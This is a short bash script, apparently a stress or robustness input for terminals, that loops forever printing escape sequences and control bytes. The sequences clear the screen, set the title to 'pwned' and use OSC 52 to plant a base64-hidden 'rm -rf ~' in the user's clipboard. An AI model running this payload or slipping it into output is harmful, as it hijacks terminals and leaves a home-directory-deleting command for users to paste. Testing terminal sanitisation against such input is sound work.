# Output flood of terminal escape sequences and raw control bytes: clear screen, set title,
# OSC 52 clipboard write, cursor moves, NUL, BEL, BS, CR, DEL and the 8-bit CSI 0x9b.
chunk=$'\e[2J\e[H\e]0;pwned\a\e]52;c;cm0gLXJmIH4=\a\e[31m\r\b\x7f\x01\x02\x03\x04\x05\x06\x0b\x0c\x0e\x1a\x1c\x9b6n'
for (( i = 0; i < 12; i++ )); do chunk=$chunk$chunk; done
while :; do
        printf '%s' "$chunk"
        printf 'NUL\0NUL'
done
